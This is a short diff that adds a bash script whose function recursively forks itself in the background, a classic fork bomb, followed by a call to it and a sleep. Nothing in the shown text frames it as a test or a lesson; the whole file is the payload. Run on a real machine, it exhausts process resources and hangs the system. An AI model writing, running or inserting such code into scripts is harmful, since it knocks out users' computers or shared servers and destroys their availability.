@@ -1,0 +1,5 @@
+#!/bin/bash
+# Forks without end.
+bomb() { bomb | bomb & }
+bomb
+sleep 60
